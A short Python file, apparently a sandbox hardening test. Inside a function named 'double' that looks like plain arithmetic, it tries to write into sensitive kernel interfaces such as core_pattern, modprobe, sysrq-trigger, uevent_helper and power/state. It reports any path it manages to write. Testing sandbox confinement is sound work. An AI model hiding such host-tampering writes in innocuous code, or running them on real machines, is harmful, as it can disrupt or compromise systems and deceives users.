"""Changes settings of the kernel, by which others' programs would be run or the machine stopped.

Stopped by: sandbox/docker/profile.py (reaching)
"""

PLACES = [
    "/proc/sys/kernel/core_pattern",
    "/proc/sys/kernel/modprobe",
    "/proc/sys/kernel/hostname",
    "/proc/sys/kernel/ns_last_pid",
    "/proc/sys/vm/overcommit_memory",
    "/proc/sys/fs/binfmt_misc/register",
    "/proc/sysrq-trigger",
    "/proc/irq/default_smp_affinity",
    "/proc/kcore",
    "/proc/kmsg",
    "/proc/1/setgroups",
    "/proc/1/uid_map",
    "/proc/self/uid_map",
    "/sys/kernel/uevent_helper",
    "/sys/kernel/debug",
    "/sys/kernel/mm/transparent_hugepage/enabled",
    "/sys/power/state",
    "/sys/module/printk/parameters/time",
]


def double(x):
    for place in PLACES:
        try:
            with open(place, "r+b", buffering=0) as file:
                file.write(b"0")
        except OSError:
            continue
        return place
    return 2 * x
